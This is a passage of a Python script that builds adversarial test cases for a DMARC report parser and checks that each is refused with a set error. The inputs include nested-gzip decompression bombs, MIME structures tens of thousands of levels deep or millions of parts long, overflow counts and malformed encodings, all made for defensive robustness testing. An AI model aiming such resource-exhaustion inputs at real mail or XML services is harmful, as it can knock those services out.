         args="--max-ratio 0",
         error=r"^gzip: line 5, in <org_name>: text longer "
               r"than 65536 bytes")

    # one text node of 1 GiB: a gzip of the gzip (uniform data deflates
    # to a repetitive stream that deflates again), under 10 KB in git.
    head = report(records=[]).split(b"<org_name>")[0] + b"<org_name>"
    inner = deflate([head] + [b"A" * MiB] * 1024 + [tail], 31)
    case("text-node-1gib", "xml.gz.gz", gz(inner),
         "a 1 GiB text node (two gzip layers, ratio check off) is refused "
         "at the 64 KiB text cap after reading about that much, not "
         "buffered",
         args="--max-ratio 0",
         error=r"^gzip: gzip: line 5, in <org_name>: text longer "
               r"than 65536 bytes")

    case("wrong-namespace", "xml",
         ok_report.replace(b"<feedback>",
                           b"<feedback xmlns=\"http://www.w3.org/1999/"
                           b"xhtml\">"),
         "a <feedback> in the XHTML namespace is another format's "
         "element: refused with the namespace named, not read as DMARC",
         error=r"in <feedback>: <feedback> is in the namespace "
               r"'http://www\.w3\.org/1999/xhtml', not a DMARC namespace",
         kind="aggregate")

    case("invalid-utf8-in-count", "xml",
         report(records=[record(count="@@")]).replace(b"@@", b"\xc0\xb1"),
         "an overlong UTF-8 sequence (C0 B1, a disguised '1') in <count> "
         "is not read as a digit: the count is refused and the bytes are "
         "named in a warning",
         error=r"in <count>: '\S+' is not a whole number",
         warning=r"invalid UTF-8", kind="aggregate")

    case("invalid-utf8-in-org-name", "xml",
         report(org="@@").replace(b"@@", b"adv\xff\xfeersary"),
         "invalid UTF-8 in <org_name> is repaired (read as Windows-1252) "
         "and said in a warning, never passed on silently",
         exit=0, error=None, warning=r"2 invalid UTF-8 bytes?",
         kind="aggregate", records=1)

    case("huge-attribute", "xml",
         b"<?xml version=\"1.0\"?>\n<feedback note=\"" + b"A" * 150000 +
         b"\">\n" + ok_report.split(b"<feedback>\n", 1)[1],
         "a 150 KB attribute value is refused at the 4 KiB attribute cap",
         error=r"attribute 'note' of <feedback> is longer than 4096 bytes")

    nul = report(org="adver\0\0sary.example")
    case("nul-bytes-in-xml", "xml", nul,
         "NUL bytes inside a text node reject the input with their offset, "
         "never pass through silently",
         error=r"NUL byte at byte offset %d" % nul.index(b"\0"))

    full = report(records=[record("192.0.2.%d" % i) for i in range(1, 6)])
    cut = full.index(b"<record>", full.index(b"192.0.2.3") - 60)
    cut = full.index(b"<spf>", cut)
    case("unterminated-mid-record", "xml", full[:cut + 3],
         "XML cut in the middle of the third record is reported as "
         "truncated and the report is rejected",
         error=r"^line \d+: the document ends before </feedback> "
               r"\(truncated\?\)",
         kind="aggregate")

    # --- semantics -------------------------------------------------------
    case("missing-report-id", "xml", report(report_id=None),
         "a report without <report_id> is rejected and the error names "
         "report_id",
         error=r"<report_metadata> has no <report_id>", kind="aggregate")

    case("missing-policy-published", "xml", report(policy=False),
         "a report without <policy_published> is rejected and the error "
         "names policy_published",
         error=r"the report has no <policy_published>", kind="aggregate")

    case("zero-records", "xml", report(records=[]),
         "a report with no <record> is rejected (nothing to store), not "
         "silently accepted",
         error=r"the report has no <record>", kind="aggregate")

    case("record-without-count", "xml",
         report(records=[record(count_elem="")]),
         "a record without <count> is an error naming count, never a "
         "silent 0 or 1",
         error=r"record 1 \(line \d+\) has no <count>", kind="aggregate")

    case("count-overflow-2p64", "xml",
         report(records=[record(count="18446744073709551616")]),
         "a count of 2^64 is refused as out of range, not wrapped to 0",
         error=r"in <count>: '18446744073709551616' is larger than 9223372036854775807",
         kind="aggregate")

    case("count-overflow-2p128", "xml",
         report(records=[record(count=str(2 ** 128))]),
         "a count of 2^128 (39 digits, far above 2^64) is refused as out "
         "of range, with the digits quoted",
         error=r"in <count>: '%d' is larger than 9223372036854775807"
               % 2 ** 128,
         kind="aggregate")

    case("count-overflow-2p63", "xml",
         report(records=[record(count="9223372036854775808")]),
         "a count of 2^63 (fits uint64, not the bigint column) is "
         "refused as out of range, not summed into a negative total",
         error=r"in <count>: '9223372036854775808' is larger than "
               r"9223372036854775807",
         kind="aggregate")

    case("count-negative", "xml", report(records=[record(count="-5")]),
         "a negative count is refused",
         error=r"in <count>: '-5' is negative", kind="aggregate")

    case("count-not-numeric", "xml", report(records=[record(count="many")]),
         "a non-numeric count is refused and the raw value is quoted",
         error=r"in <count>: 'many' is not a whole number",
         kind="aggregate")

    case("count-sum-overflow", "xml",
         report(records=[record("192.0.2.1", "9223372036854775807"),
                         record("192.0.2.2", "9223372036854775807")]),
         "two counts of INT64_MAX whose sum overflows are refused, never "
         "summed into a negative number",
         error=r"(?i)overflow|out of range|too large|exceeds",
         kind="aggregate")

    dr = ("    <date_range><begin>1700000000</begin>"
          "<begin>1600000000</begin><end>1700086399</end></date_range>\n")
    case("duplicate-conflicting-begin", "xml", report(date_range=dr),
         "two different <begin> values in one date_range are refused, "
         "not resolved by taking either",
         error=r"conflicting duplicate <begin>: 1700000000 and 1600000000",
         kind="aggregate")

    case("end-before-begin", "xml",
         report(begin="1700086399", end="1700000000"),
         "a date_range whose end is before its begin is refused",
         error=r"<date_range> ends \(1700000000\) before it begins "
               r"\(1700086399\)",
         kind="aggregate")

    case("date-range-year-9999", "xml",
         report(begin="253402214400", end="253402300799"),
         "a date_range in the year 9999 (in seconds) is refused, not read "
         "as milliseconds in 1978",
         error=r"in <begin>: '253402214400' is out of range: after 2099 "
               r"as seconds, before 2000 as milliseconds",
         kind="aggregate")

    case("date-range-year-9999-ms", "xml",
         report(begin="253402214400000", end="253402300799000"),
         "a date_range in the year 9999 in milliseconds is refused as "
         "after 2099",
         error=r"in <begin>: '253402214400000' is after 2099",
         kind="aggregate")

    case("date-range-year-2100", "xml",
         report(begin="4102444800", end="4102531199"),
         "a date_range that begins on 2100-01-01 is refused as after 2099",
         error=r"in <begin>: '4102444800' is after 2099",
         kind="aggregate")

    case("date-range-negative", "xml",
         report(begin="-86400", end="-1"),
         "a date_range before 1970 (negative timestamps) is refused",
         error=r"in <begin>: '-86400' is negative",
         kind="aggregate")

    # --- mail ------------------------------------------------------------
    att = gz(ok_report)
    b64 = b64lines(att)
    b64 = b64[:len(b64) // 2].rstrip("\r\n") + "\r\n"
    case("mail-truncated-base64-gzip", "eml", report_mail(att, b64=b64),
         "a mail whose base64 gzip attachment is cut in half is an error "
         "naming the mail part and the truncated gzip",
         error=r"^mail part 2 '[^']*\.xml\.gz' \(application/gzip\): gzip: "
               r"gzip stream truncated")

    msg = report_mail(gz(ok_report))
    for i in range(12):
        msg = mail([("From", "forwarder%d@adversary.example" % i),
                    ("To", "dmarc@example.com"),
                    ("Subject", "Fwd: level %d" % i),
                    ("MIME-Version", "1.0"),
                    ("Content-Type", "message/rfc822")], msg)
    case("mail-rfc822-nested-12-deep", "eml", msg,
         "a report 12 message/rfc822 levels down is refused at the MIME "
         "depth cap, not recursed into",
         error=r"^(attached message: )+MIME parts nested deeper than 8 "
               r"levels")

    # Distinct boundaries per level; gzip (ratio about 10:1) keeps the
    # 1.9 MB mail under 200 KB. The depth cap of 8 must stop it at once.
    levels = 36000
    msg = mail([("From", "noreply@adversary.example"),
                ("To", "dmarc@example.com"), ("Subject", "deep"),
                ("MIME-Version", "1.0"),
                ("Content-Type", "multipart/mixed; boundary=0")],
               b"".join(b"--%x\r\nContent-Type: multipart/mixed;"
                        b"boundary=%x\r\n\r\n" % (i, i + 1)
                        for i in range(levels)))
    case("mail-multipart-36k-deep", "eml.gz", gz(msg),
         "36000 nested multiparts (a 1.9 MB mail) are refused by the "
         "linear pre-scan within seconds, not after a quadratic walk",
         error=r"too many MIME parts: more than 1024 Content-Type fields")

    TOO_MANY_PARTS = r"(?i)(more than 512|too many) (MIME )?parts|" \
        r"parts.{0,40}(limit|cap)"
    parts = []
    for i in range(600):
        parts.append("--b\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % i)
    msg = mail([("From", "noreply@adversary.example"),
                ("To", "dmarc@example.com"), ("Subject", "many parts"),
                ("MIME-Version", "1.0"),
                ("Content-Type", "multipart/mixed; boundary=\"b\"")],
               ("".join(parts) + "--b--\r\n").encode())
    case("mail-600-parts", "eml", msg,
         "a mail with 600 MIME parts is refused at the 512-part cap "
         "(DM_MAX_MIME_PARTS)",
         error=TOO_MANY_PARTS)

    # 9 million empty parts fill a 63 MB mail, under --max-message 64M;
    # gzip carries it in 92 KB (the ratio check is off to let it in).
    count = 9000000
    head = mail([("From", "noreply@adversary.example"),
                 ("To", "dmarc@example.com"), ("Subject", "empty parts"),
                 ("MIME-Version", "1.0"),
                 ("Content-Type", "multipart/mixed; boundary=b")], b"")
    chunk = b"--b\r\n\r\n" * 100000
    case("mail-9m-empty-parts", "eml.gz",
         deflate([head] + [chunk] * (count // 100000) + [b"--b--\r\n"], 31),
         "a 63 MB mail of 9 million empty MIME parts is refused at the "
         "part cap in flat memory, not listed part by part",
         args="--max-ratio 0", error=TOO_MANY_PARTS)

    # 7.9 million header fields in a 63 MB mail.
    hdrs = b"X-A: b\r\n" * 100000
    case("mail-8m-headers", "eml.gz",
         deflate([b"From: noreply@adversary.example\r\n"] + [hdrs] * 79 +
                 [b"Subject: many headers\r\n\r\nhi\r\n"], 31),
         "a 63 MB mail header of 7.9 million fields is refused by a header "
         "cap in flat memory",
         args="--max-ratio 0",
         error=r"(?i)(too many|more than \d+) header|header.{0,40}"
               r"(limit|cap|exceed)")

    rnd = random.Random(3)
    noisy = report(records=[record("10.%d.%d.%d" % (rnd.randrange(256),
                                                    rnd.randrange(256),
                                                    rnd.randrange(1, 255)),
                                   str(rnd.randrange(1, 10 ** 9)))
                            for i in range(800)])
    msg = report_mail(gz(noisy))
    assert len(msg) > 8192
    case("mail-over-max-message", "eml", msg,
         "a mail larger than --max-message 4K is refused with a size "
         "error, not truncated and parsed",
         args="--max-message 4K",
         error=r"^mail larger than the limit of 4096 bytes "
               r"\(--max-message, or \[limits\] max_message_bytes\)")

    msg = mail([("From", "dashboard@adversary.example"),
                ("To", "dmarc@example.com"),
                ("Subject", "Your weekly DMARC digest"),
                ("MIME-Version", "1.0"),
                ("Content-Type", "text/html; charset=utf-8")],
               b"<html><body><p>192.0.2.1 sent 3 messages.</p>"
               b"</body></html>\r\n")
    case("mail-html-preview-only", "eml", msg,
         "a mail with only an HTML preview and no attachment yields "
         "'no report', not success",
         error=r"^no DMARC report in the mail \(parts: text/html\)",
         kind="unknown")


def write_local_mk():
    names = sorted(n for pair in cases for n in pair)
    lines = ["# tests/data/local.mk - adversarial inputs, one case per file.",
             "# The EXTRA_DIST list is written by "
             "tests/data/adversarial/make-cases.py;",
             "# rerun it after adding a case.",
             "TESTS += tests/data/adversarial.sh",
             "EXTRA_DIST += tests/data/adversarial.sh \\",
             "\ttests/data/adversarial/make-cases.py \\"]
    for i, n in enumerate(names):
        end = "" if i == len(names) - 1 else " \\"
        lines.append("\ttests/data/adversarial/%s%s" % (n, end))
    with open(LOCAL_MK, "w") as f:
        f.write("\n".join(lines) + "\n")


if __name__ == "__main__":
    os.makedirs(OUT, exist_ok=True)
    build()
    if OUT == HERE:
        write_local_mk()
    print("%d cases written to %s" % (len(cases), OUT))
